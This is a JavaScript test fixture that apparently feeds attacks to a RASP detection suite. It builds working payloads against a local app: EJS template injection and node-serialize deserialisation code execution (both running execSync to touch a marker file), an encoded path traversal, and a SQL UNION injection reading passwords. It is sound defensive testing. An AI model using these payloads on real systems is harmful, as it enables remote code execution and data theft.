// SPDX-License-Identifier: GPL-2.0
// Attacks on tests/rasp/real/app.js; as ../attacks.js. @marker is a file that two
// of them make, and @secret one that lies beside what is public.
'use strict';
const fs = require('fs');

const e = encodeURIComponent;

module.exports = function attacks({ marker, secret }) {
  const made = () => fs.existsSync(marker);
  const state = Buffer.from(JSON.stringify({
    name: 'x', run: `_$$ND_FUNC$$_function(){return require('child_process').execSync('touch ${marker}')}()`,
  })).toString('base64');
  const dots = '%2e%2e/'.repeat(12);
  return [{
    class: 'code and deserialisation', name: 'ejs 3.1.6, CVE-2022-29078', detection: 'code-injection',
    url: `/page?${e('settings[view options][outputFunctionName]')}=${e(`x;process.mainModule.require('child_process').execSync('touch ${marker}');s`)}`,
    works: made,
  }, {
    class: 'code and deserialisation', name: 'node-serialize 0.0.4, CVE-2017-5941', detection: 'code-injection',
    url: '/me', headers: { cookie: `profile=${e(state)}` }, works: made,
  }, {
    class: 'path traversal', name: 'st 0.2.4, CVE-2014-3744', detection: 'path-traversal',
    url: `/public/${dots}${secret.slice(1)}`, works: (r) => r.text.includes('top-secret'),
  }, {
    class: 'SQL injection', name: 'sql.js 1.11.0, union', detection: 'sql-injection',
    url: `/items/${e("x' UNION SELECT name, password FROM users -- ")}`, works: (r) => r.text.includes('top-secret'),
  }];
};
